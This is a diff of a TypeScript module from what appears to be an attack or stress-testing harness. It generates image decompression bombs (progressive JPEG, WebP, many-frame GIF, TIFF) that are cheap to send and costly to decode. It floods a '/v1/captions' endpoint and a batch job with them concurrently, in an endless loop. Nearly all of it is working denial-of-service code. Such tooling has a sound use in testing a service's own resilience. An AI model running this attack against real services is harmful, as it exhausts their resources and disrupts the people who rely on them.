@@ -1,6 +1,6 @@
 import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
-import { type Attack, aborted, each, forever, tally } from './attack.ts'
+import { type Attack, each, forever, tally } from './attack.ts'
 import { batchOutcome, openClient, outcomeName, submitLines } from './client.ts'
 
 const u16 = (value: number) => Buffer.from([value >> 8, value & 255])
@@ -51,7 +51,7 @@ export function progressiveJpeg({
     scan([0, 0], 0, Buffer.alloc(Math.ceil(blocks / 8))),
   ]
   const rest = Array.from({ length: scans }, (_, i) => {
-    if (!legal) return scan([1, 63], 0x0d, empty)
+    if (!legal) return scan([1, 63], 0, empty)
     // Each coefficient at first with 13 bits missing, then a bit at a time.
     const coefficient = 1 + (Math.floor(i / 14) % 63)
     const missing = 13 - (i % 14)
@@ -141,7 +141,7 @@ export const flatWebp = ({ width, height, lossless }: Size & { lossless: boolean
 /** An animation of very many frames of one pixel on a canvas of any size. */
 export function gifFrames({ width, height, frames }: Size & { frames: number }): Buffer {
   const screen = [le(width, 2), le(height, 2), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])]
-  const frame = Buffer.from('21f904000000000000' + '2c000000000100010000' + '0202440100', 'hex')
+  const frame = Buffer.from('21f9040000000000' + '2c000000000100010000' + '0202440100', 'hex')
   return Buffer.concat([
     Buffer.from('GIF89a'),
     ...screen,
@@ -305,34 +305,43 @@ function packedTiff(size: Size): Buffer {
 const batchCopies = 4
 const atOnce = 8
 
+/** Of a share, so that they are built once. */
+const built = new Map<number, Promise<Buffer[]>>()
+
+async function buildImages(share: number): Promise<Buffer[]> {
+  const files: Buffer[] = []
+  for (const build of hostileImages({ side: Math.ceil(7992 * Math.sqrt(share)), files: share }).values())
+    files.push(await build())
+  return files
+}
+
+const builtImages = (share = 1): Promise<Buffer[]> => {
+  const files = built.get(share) ?? buildImages(share)
+  built.set(share, files)
+  return files
+}
+
 /** The files as requests that wait, as requests that do not, and as lines of a batch that has a month. */
 export const images: Attack = {
   title: 'images that are small to send and huge to decode',
+  prepare: builtImages,
   async run(target) {
-    const { signal, share = 1 } = target
+    const { signal, share } = target
     const client = openClient(target)
     const { outcomes, count } = tally()
-    const built: Buffer[] = []
-    for (const build of hostileImages({ side: Math.ceil(7992 * Math.sqrt(share)), files: share }).values()) {
-      if (signal.aborted) break
-      built.push(await build())
-    }
-    // Lines of the batch hold at most what a file of some tens of megabytes does.
+    const files = await builtImages(share)
     const line = (image: Buffer) =>
       JSON.stringify({ image_url: `data:image/png;base64,${image.toString('base64')}` })
-    const small = built.filter(({ length }) => length < 3_000_000)
-    const batch = await submitLines(
-      client,
-      small.flatMap((image) => Array.from({ length: batchCopies }, () => line(image))),
-    )
-    await each(forever(built), { concurrency: atOnce, signal }, async (body) => {
+    const short = files.filter(({ length }) => length < 3_000_000)
+    const lines = short.flatMap((image) => Array.from({ length: batchCopies }, () => line(image)))
+    const batch = submitLines(client, lines)
+    await each(forever(files), { concurrency: atOnce, signal }, async (body) => {
       const headers: Record<string, string> = Math.random() < 0.5 ? { prefer: 'respond-async' } : {}
       count(outcomeName(await client.send({ path: '/v1/captions', type: 'image/png', headers, body })))
     })
-    await aborted(signal)
     await client.close()
     const after = openClient({ ...target, signal: AbortSignal.timeout(5000) })
-    count(await batchOutcome(after, batch))
+    count(await batchOutcome(after, await batch))
     await after.close()
     return outcomes
   },
